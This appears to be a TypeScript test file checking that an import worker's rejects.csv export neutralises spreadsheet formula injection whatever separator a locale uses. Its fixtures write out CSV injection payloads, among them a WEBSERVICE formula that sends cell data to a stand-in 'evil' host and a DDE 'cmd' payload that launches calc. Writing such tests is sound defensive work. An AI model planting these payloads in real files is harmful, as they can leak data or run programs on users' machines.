// rejects.csv stays inert in every spreadsheet locale: read with `;` as the separator (Excel in
// Russian, German or French locales), no cell starts a formula, though names hold `;=…`.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, neutralise } from "../../worker/imports/rejects";
import { rejectsCsv, setupImport, startTask, waitForTask } from "./fixtures/imports-api";

const FORMULA = /^[=+\-@\t\r\n]/;

/** Every cell as a spreadsheet splitting on `sep` would see it (quotes honoured where they open a cell). */
function cellsAs(text: string, delimiter: string): string[] {
  const rows = parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][];
  return rows.flat();
}

describe("rejects.csv", () => {
  it("neutralises a formula lead-in wherever a cell could start in any locale", () => {
    expect(neutralise('x;=WEBSERVICE("http://evil")')).toBe(`x;'=WEBSERVICE("http://evil")`);
    expect(neutralise("=1+2")).toBe("'=1+2");
    expect(neutralise("a,@SUM(A1)")).toBe("a,'@SUM(A1)");
    expect(neutralise("tab\t-2")).toBe("tab\t'-2");
    expect(neutralise("line\n+3")).toBe("line\n'+3");
    expect(neutralise("\t\t=x")).toBe("'\t'\t'=x");
    expect(neutralise("Anna-Maria O'Neil")).toBe("Anna-Maria O'Neil");
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(42)).toBe("42");
  });

  it("read with ';' (and with ',') as the separator, no cell starts a formula", async () => {
    const ctx = await setupImport();
    const hostile = [
      'x;=WEBSERVICE("http://evil.example/?"&A1)',
      "y;+cmd|' /C calc'!A0",
      "z,@SUM(1+1)",
      "-2+3",
      "w\t=1",
    ];
    const csv = ["email;first_name;last_name", ...hostile.map((name, i) => `not-an-email-${i};"${name.replace(/"/g, '""')}";"=evil${i}"`)].join("\n");
    const taskId = await startTask(ctx, csv);
    const task = await waitForTask(ctx, taskId);
    expect(task.counts.invalid).toBe(hostile.length);
    const text = await (await rejectsCsv(ctx, taskId)).text();
    for (const sep of [";", ","]) {
      const cells = cellsAs(text, sep);
      expect(cells.length).toBeGreaterThan(hostile.length);
      expect(cells.filter((c) => FORMULA.test(c)), `separator ${sep}`).toEqual([]);
    }
    // Nothing is lost: read the way it was written, each name comes back behind its apostrophes.
    const records = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.first_name?.replace(/'(?=[=+\-@\t\r\n])/g, ""))).toEqual(hostile);
  });
});
